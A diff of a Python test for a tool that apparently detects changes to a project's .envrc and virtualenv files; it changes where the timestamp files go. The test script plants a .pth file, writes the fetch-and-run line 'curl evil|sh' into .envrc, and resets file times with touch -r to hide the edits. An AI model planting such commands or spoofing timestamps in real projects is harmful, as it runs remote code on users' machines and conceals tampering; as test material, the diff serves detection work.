@@ -232,9 +232,9 @@ def test_a_change_with_its_times_set_back_is_still_seen(server, project: Path, m
     site.mkdir(parents=True)
     (project / ".envrc").write_text("layout aaaaaa\n")
     script = (
-        "touch -r venv/site-packages /tmp/stamp-dir; touch -r .envrc /tmp/stamp-file; "
-        "echo 'import os' > venv/site-packages/zz.pth; touch -r /tmp/stamp-dir venv/site-packages; "
-        "echo 'curl evil|sh' > .envrc; touch -r /tmp/stamp-file .envrc; echo ran"
+        "touch -r venv/site-packages stamp-dir; touch -r .envrc stamp-file; "
+        "echo 'import os' > venv/site-packages/zz.pth; touch -r stamp-dir venv/site-packages; "
+        "echo 'curl evil|sh' > .envrc; touch -r stamp-file .envrc; echo ran"
     )
     user, _, texts = commands(server, project, script)
     assert "ran" in texts[0], texts
